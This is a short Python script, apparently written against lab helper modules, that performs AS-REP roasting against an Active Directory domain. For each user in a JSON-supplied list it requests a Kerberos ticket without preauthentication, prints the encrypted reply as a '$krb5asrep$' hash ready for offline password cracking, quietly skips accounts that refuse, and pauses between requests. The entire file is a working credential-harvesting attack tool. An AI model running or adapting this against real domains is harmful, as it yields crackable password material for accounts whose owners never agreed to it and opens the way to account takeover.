"""Asks for a ticket of each of many users without a password. The argument is JSON."""
import json
import sys

import lab_ad
import lab_krb

want = json.loads(sys.argv[1])
types = {"rc4": [lab_krb.RC4], "aes": [lab_krb.AES256, lab_krb.AES128]}[want["types"]]
for user in want["users"]:
    try:
        answer = lab_krb.without_preauth(want["server"], want["realm"], user, types, want["udp"])
        cipher = bytes(answer["enc-part"]["cipher"]).hex()
        print("$krb5asrep$%d$%s@%s:%s" % (int(answer["enc-part"]["etype"]), user, want["realm"], cipher), flush=True)
    except lab_krb.Refused as e:
        if e.code not in (lab_krb.UNKNOWN, lab_krb.REVOKED, lab_krb.PREAUTH_REQUIRED):
            raise
    lab_ad.pause(float(want["pause"]))
